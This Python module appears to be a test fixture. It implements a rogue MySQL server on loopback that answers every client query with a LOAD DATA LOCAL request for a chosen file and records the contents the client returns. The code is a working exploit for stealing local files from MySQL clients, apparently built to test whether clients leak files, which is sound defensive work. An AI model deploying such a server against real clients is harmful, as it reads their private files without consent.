"""A MySQL server that answers a query by asking the client for one of its files (LOAD DATA LOCAL, the oldest trick)."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

_OK = b"\x00\x00\x00\x02\x00\x00\x00"
# Protocol 4.1, secure connection, plugins, LOCAL FILES …
_CAPABILITIES = 0x000B_A28F


@dataclass
class Rogue:
    """`asked`: how often it asked for `file`; `given`: what it was sent."""

    file: str
    port: int = 0
    asked: int = 0
    given: list[bytes] = field(default_factory=list)

    def serve(self, listener: socket.socket) -> None:
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=self._meet, args=(client,), daemon=True).start()

    def _meet(self, client: socket.socket) -> None:
        client.settimeout(5)
        with client, suppress(OSError):
            self._talk(client)

    def _talk(self, client: socket.socket) -> None:
        low, high = (_CAPABILITIES & 0xFFFF).to_bytes(2, "little"), (_CAPABILITIES >> 16).to_bytes(2, "little")
        greeting = b"\x0a5.7.30\0" + b"\x01\0\0\0" + b"abcdefgh\0" + low + b"\x21\x02\0" + high + b"\x15" + b"\0" * 10
        _send(client, 0, greeting + b"ijklmnopqrst\0mysql_native_password\0")
        number, _ = _receive(client)
        _send(client, number + 1, _OK)
        while True:
            number, command = _receive(client)
            if command[:1] != b"\x03":  # no query
                _send(client, number + 1, _OK)
                continue
            self.asked += 1
            _send(client, number + 1, b"\xfb" + self.file.encode())
            number, content = _receive(client)
            if content:
                self.given.append(content)
                number, _ = _receive(client)
            _send(client, number + 1, _OK)


def _send(client: socket.socket, number: int, content: bytes) -> None:
    client.sendall(len(content).to_bytes(3, "little") + bytes([number & 0xFF]) + content)


def _receive(client: socket.socket) -> tuple[int, bytes]:
    head = client.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        raise ConnectionResetError
    return head[3], client.recv(int.from_bytes(head[:3], "little"), socket.MSG_WAITALL) if head[
        :3
    ] != b"\0\0\0" else b""


@contextmanager
def rogue(file: str) -> Iterator[Rogue]:
    """Such a server on the loopback, while the block runs."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        server = Rogue(file, listener.getsockname()[1])
        threading.Thread(target=server.serve, args=(listener,), daemon=True).start()
        yield server
